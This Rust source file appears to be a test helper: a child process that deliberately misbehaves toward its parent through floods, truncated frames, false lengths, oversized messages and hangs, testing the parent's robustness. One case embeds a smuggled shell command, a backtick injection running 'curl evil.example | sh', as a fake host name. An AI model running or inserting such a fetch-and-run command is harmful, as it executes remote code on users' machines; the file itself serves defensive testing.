//! The child process. An item, the arguments for `init` or the plugin's name selects its misdeed.

use std::fs::File;
use std::io;
use std::os::unix::fs::FileExt;
use std::thread;
use std::time::Duration;

use crate::wire::{self, ParentSocket, Task, guest, refusal};

/// Performs the selected misdeed, until the parent kills this process.
pub(crate) fn misbehave() {
    // A parent that has given up closes its end of the socket.
    let _ = serve();
}

fn serve() -> io::Result<()> {
    let mut socket = ParentSocket::from_standard_input()?;
    let files = socket.files()?;
    let (task, init) = socket.task()?;
    match task {
        Task::Compile(compile) => run_as_compiler(socket, &compile.path.to_string_lossy()),
        Task::Work => run_as_worker(socket, &files, &init),
        Task::Probe => Ok(()),
    }
}

fn hang() -> io::Result<()> {
    loop {
        thread::park();
    }
}

#[expect(clippy::disallowed_methods, reason = "this misdeed is slow on purpose")]
fn pause() {
    thread::sleep(Duration::from_millis(1));
}

// ---------------------------------------------------------------- a worker

fn run_as_worker(mut socket: ParentSocket, files: &[File], init: &[u8]) -> io::Result<()> {
    if init == b"floods before it is ready" {
        return socket.flood(wire::GUEST, &guest::output("x"));
    }
    socket.send(wire::READY, b"")?;
    if init == b"floods before it has started" {
        return socket.flood(wire::GUEST, &guest::output("x"));
    }
    socket.send(wire::STARTED, &[0, 0])?;
    loop {
        let order = socket.receive()?;
        let item = wire::item(&order);
        let Some(misdeed) = item.strip_prefix(b"!") else {
            socket.send(wire::RAN, &wire::ran(1, &[&item.to_ascii_uppercase()]))?;
            continue;
        };
        // Reports that the item has begun. Otherwise the parent would conclude that the process died while it was idle.
        if let Some(page) = files.first() {
            page.write_all_at(&1_u32.to_ne_bytes(), HAS_BEGUN)?;
        }
        match misdeed {
            b"closes" => {
                socket.close()?;
                return hang();
            }
            b"stops reading" => {
                socket.send(wire::RAN, &wire::ran(1, &[b"done"]))?;
                return hang();
            }
            b"writes false progress" => write_false_progress(files)?,
            misdeed => perform_misdeed(&mut socket, misdeed)?,
        }
        socket.send(wire::RAN, &wire::ran(1, &[b"done"]))?;
    }
}

/// The offset in the shared page of the word that reports that an item has begun.
const HAS_BEGUN: u64 = 8;

/// Writes random progress into the page many times, and then hangs.
fn write_false_progress(files: &[File]) -> io::Result<()> {
    let page = files.first().ok_or(io::ErrorKind::NotFound)?;
    let mut word = 1_u64;
    for _ in 0..200_000 {
        word = word.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        page.write_all_at(&word.to_ne_bytes(), 0)?;
    }
    hang()
}

/// Performs a misdeed. After a misdeed that ends, the item gets its record.
fn perform_misdeed(socket: &mut ParentSocket, misdeed: &[u8]) -> io::Result<()> {
    let large = "x".repeat(200 * 1024);
    match misdeed {
        b"sends nothing" => hang(),
        b"half a frame" => {
            socket.send_header(wire::RAN, 1000)?;
            socket.raw(&[0; 500])?;
            hang()
        }
        b"half a header" => {
            socket.raw(&[0, 0])?;
            hang()
        }
        b"byte by byte" => {
            socket.send_header(wire::RAN, 1_000_000)?;
            loop {
                socket.raw(&[0])?;
                pause();
            }
        }
        b"floods small output" => socket.flood(wire::GUEST, &guest::output("x")),
        b"floods large output" => socket.flood(wire::GUEST, &guest::output(&large)),
        b"floods logs" => socket.flood(wire::GUEST, &guest::log(&large)),
        b"floods drops" => socket.flood(wire::GUEST, &guest::dropped(u64::MAX, u64::MAX)),
        b"event that is too long" => socket.send(wire::GUEST, &guest::log(&"x".repeat(300 * 1024))),
        b"false length" => {
            socket.raw(&[0xFF, 0xFF, 0xFF, 0xFF, wire::RAN])?;
            hang()
        }
        b"false count" => socket.send(wire::RAN, &wire::ran(u32::MAX, &[b"x"])),
        b"more outcomes than items" => socket.send(wire::RAN, &wire::ran(2, &[b"x", b"y"])),
        b"huge result" => socket.send_header(wire::RAN, 80 << 20).and_then(|()| hang()),
        b"calls an unknown function" => socket.send(wire::CALL, &7_u32.to_le_bytes()),
        b"requests all memory" => {
            for _ in 0..1000 {
                socket.send(wire::TAKE, &u64::MAX.to_le_bytes())?;
                socket.receive()?;
            }
            Ok(())
        }
        b"many long denials" => {
            for number in 0..1000 {
                let name = format!("{number}{}", "x".repeat(200 * 1024));
                socket.send(wire::GUEST, &guest::denied_name(&name))?;
            }
            Ok(())
        }
        b"denial with a shell command" => {
            // A user might copy this text into a shell.
            let host = "`; curl evil.example | sh; `";
            socket.send(wire::GUEST, &guest::denied_request(host, 1))
        }
        b"invalid event" => socket.send(wire::GUEST, "[".repeat(200 * 1024).as_bytes()),
        _ => Ok(()),
    }
}

// ---------------------------------------------------------------- a compiler

fn run_as_compiler(mut socket: ParentSocket, misdeed: &str) -> io::Result<()> {
    const HUGE: usize = 250 << 20;
    if misdeed == "huge ready message" {
        return socket.send(wire::READY, &vec![b'x'; HUGE]);
    }
    socket.send(wire::READY, b"")?;
    match misdeed {
        "huge code" => socket.send(wire::COMPILED, &vec![b' '; HUGE]),
        "huge refusal" => socket.send(wire::NOT_COMPILED, &vec![b'['; HUGE]),
        "refusal with many causes" => {
            socket.send(wire::NOT_COMPILED, &refusal::invalid("", 20_000))
        }
        "refusal with long causes" => {
            socket.send(wire::NOT_COMPILED, &refusal::invalid(&"x".repeat(30_000), 2))
        }
        "huge findings" => socket.send(wire::INSPECTED, &vec![b'['; HUGE]),
        "findings with many exports" => socket.send(wire::INSPECTED, &wire::found(500_000, None)),
        "findings with a long refusal" => {
            let refusal = refusal::not_wasm(&"x".repeat(3_000_000));
            socket.send(wire::INSPECTED, &wire::found(1, Some(refusal)))
        }
        "code of maximal length" => {
            // The kind of plugin, and its other metadata.
            let metadata = (0_u8, [false; 4]);
            socket.send(wire::COMPILED, &wire::value(&(metadata, u64::MAX)))
        }
        "floods logs" => socket.flood(wire::GUEST, &guest::log("x")),
        "half a frame" => {
            socket.send_header(wire::COMPILED, 1000)?;
            hang()
        }
        "closes" => {
            socket.close()?;
            hang()
        }
        _ => Ok(()),
    }?;
    hang()
}
